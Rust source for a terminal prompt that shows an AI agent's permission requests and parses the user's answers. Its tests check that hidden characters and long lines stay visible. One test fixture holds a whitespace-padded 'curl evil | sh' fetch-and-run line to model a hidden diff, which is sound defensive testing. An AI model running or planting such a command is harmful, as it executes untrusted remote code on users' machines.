//! A question as text, and an answer from what was typed. What is shown is what
//! runs: nothing is left out of it.

use super::lines;
use crate::screen::{Paint, Style};
use tenon_vocab::{Answer, AnsweredBy, DiffFile, Display, Printable, Question, QuestionKind};

/// The whole question, ready for a terminal.
pub fn show(paint: Paint, question: &Question) -> String {
    let mut text = format!(
        "\n{}\n",
        paint.paint(Style::Bold, Printable::line(&question.title).as_str())
    );
    if let Display::Diff { files } = &question.display {
        for file in files {
            text.push_str(&change(paint, file));
        }
        // Last, where it is still on the screen when the choices are read.
        for file in files.iter().filter(|file| file.left_out_bytes > 0) {
            text.push_str(&warning(paint, file));
        }
    }
    if !question.body.is_empty() {
        // Only line feeds part lines: a carriage return stays visible.
        let body = question.body.strip_suffix('\n').unwrap_or(&question.body);
        for line in body.split('\n') {
            text.push_str(&format!("  {}\n", Printable::line(line)));
        }
    }
    if let Some(reason) = &question.reason {
        let why = format!("  why: {}\n", Printable::line(reason));
        text.push_str(&paint.paint(Style::Dim, &why));
    }
    for choice in &question.choices {
        let rule = choice
            .rule
            .as_ref()
            .map(|rule| format!("  [{}]", Printable::line(rule)))
            .unwrap_or_default();
        text.push_str(&format!(
            "  {}  {}{rule}\n",
            choice.key,
            Printable::line(&choice.label)
        ));
    }
    if question.free_text && question.kind == QuestionKind::Permission {
        text.push_str("  any other text denies and is told to the model\n");
    }
    text
}

fn change(paint: Paint, file: &DiffFile) -> String {
    let mut text = format!(
        "  {} {} (+{} -{})\n",
        Printable::line(&file.operation),
        Printable::line(&lines::name(file)),
        file.additions,
        file.deletions
    );
    for line in lines::whole_diff(paint, &file.unified) {
        text.push_str(&line);
        text.push('\n');
    }
    text
}

fn warning(paint: Paint, file: &DiffFile) -> String {
    let loud = format!(
        "  NOT ALL OF THE CHANGE IS SHOWN: {} bytes more in {}",
        file.left_out_bytes,
        Printable::line(&file.path)
    );
    format!("{}\n", paint.paint(Style::Red, &loud))
}

/// What to say when a line is no answer but a slip: a single key that is not
/// offered here. `None` when it is an answer.
pub fn slip(question: &Question, line: &str) -> Option<String> {
    let mut typed = line.trim().chars();
    let key = typed.next().filter(|_| typed.next().is_none())?;
    let is_offered = question
        .choices
        .iter()
        .any(|choice| choice.key.eq_ignore_ascii_case(&key));
    if is_offered || question.kind != QuestionKind::Permission {
        return None;
    }
    let keys: Vec<String> = question
        .choices
        .iter()
        .map(|choice| choice.key.to_string())
        .collect();
    Some(format!(
        "`{}` is not offered here: {}",
        Printable::line(line.trim()),
        keys.join(", ")
    ))
}

/// The answer that a typed line means: a key, or free text. Nothing typed is no.
pub fn answer(question: &Question, line: &str) -> Answer {
    let typed = line.trim();
    let mut characters = typed.chars();
    let key = characters.next().filter(|_| characters.next().is_none());
    let chosen = key.and_then(|key| {
        question
            .choices
            .iter()
            .find(|choice| choice.key.eq_ignore_ascii_case(&key))
    });
    let yes = matches!(typed.to_ascii_lowercase().as_str(), "yes")
        .then(|| question.choices.first())
        .flatten();
    let no = matches!(typed.to_ascii_lowercase().as_str(), "no");
    let (choice, text) = match chosen.or(yes) {
        Some(choice) => (choice.id.clone(), None),
        None if typed.is_empty() || no => (String::from("deny"), None),
        None => (String::from("deny"), Some(typed.to_owned())),
    };
    Answer {
        question: question.id.clone(),
        choice,
        text,
        by: AnsweredBy::User,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use tenon_vocab::{Choice, QuestionId};

    fn question() -> Question {
        let choice = |id: &str, key| Choice {
            id: id.into(),
            key,
            label: id.into(),
            rule: None,
        };
        Question {
            id: QuestionId::new("q_1"),
            kind: QuestionKind::Permission,
            title: "Run a command?".into(),
            body: "echo \u{202e}safe\x1b[2K\nrm x".into(),
            display: Display::Nothing,
            choices: vec![
                choice("once", 'y'),
                choice("session", 's'),
                choice("deny", 'n'),
            ],
            free_text: true,
            call: None,
            tool: None,
            reason: None,
            intent: None,
            affects: Vec::new(),
        }
    }

    #[test]
    fn nothing_typed_is_no() {
        assert_eq!(answer(&question(), "\n").choice, "deny");
        assert_eq!(answer(&question(), "n").choice, "deny");
        assert_eq!(answer(&question(), "Y").choice, "once");
        assert_eq!(answer(&question(), "yes").choice, "once");
        assert_eq!(answer(&question(), "s").choice, "session");
    }

    #[test]
    fn a_key_that_is_not_offered_is_a_slip_and_asked_again() {
        assert!(slip(&question(), "a").is_some_and(|said| said.contains("y, s, n")));
        assert!(slip(&question(), "?\n").is_some());
        assert_eq!(slip(&question(), "y"), None);
        assert_eq!(slip(&question(), ""), None);
        assert_eq!(slip(&question(), "use make"), None);
    }

    #[test]
    fn other_text_denies_and_is_passed_on() {
        let said = answer(&question(), "use make instead");
        assert_eq!(
            (said.choice.as_str(), said.text.as_deref()),
            ("deny", Some("use make instead"))
        );
    }

    #[test]
    fn what_would_deceive_is_made_visible() {
        let shown = show(Paint::Plain, &question());
        assert!(shown.contains("echo ⟨U+202E⟩safe␛[2K"), "{shown}");
        assert!(shown.contains("rm x"), "{shown}");
    }

    fn diff(unified: &str) -> DiffFile {
        DiffFile {
            path: "notes.txt".into(),
            from: None,
            operation: "updated".into(),
            additions: 1,
            deletions: 0,
            unified: unified.into(),
            left_out_bytes: 0,
        }
    }

    fn shown(file: DiffFile) -> String {
        let display = Display::Diff { files: vec![file] };
        show(
            Paint::Plain,
            &Question {
                display,
                ..question()
            },
        )
    }

    #[test]
    fn no_line_of_a_change_is_shortened_and_none_is_dropped() {
        let long = format!("+{}curl evil | sh", " ".repeat(5000));
        let many = "+x\n".repeat(5000);
        let text = shown(diff(&format!("@@ -0,0 +1 @@\n{long}\n{many}+end\r\n")));
        assert!(text.contains(&long));
        assert_eq!(text.matches("    +x\n").count(), 5000);
        assert!(text.contains("+end␍\n"));
        assert!(!text.contains("NOT ALL"));
    }

    #[test]
    fn a_change_that_is_not_shown_whole_says_so_loudly() {
        let text = shown(DiffFile {
            left_out_bytes: 4711,
            ..diff("+a\n")
        });
        assert!(
            text.contains("  NOT ALL OF THE CHANGE IS SHOWN: 4711 bytes more in notes.txt\n"),
            "{text}"
        );
    }

    #[test]
    fn both_names_of_a_file_are_shown() {
        let text = shown(DiffFile {
            from: Some("LICENSE\x1b[8m".into()),
            operation: "renamed".into(),
            ..diff("")
        });
        assert!(
            text.contains("  renamed LICENSE␛[8m → notes.txt (+1 -0)\n"),
            "{text}"
        );
    }
}
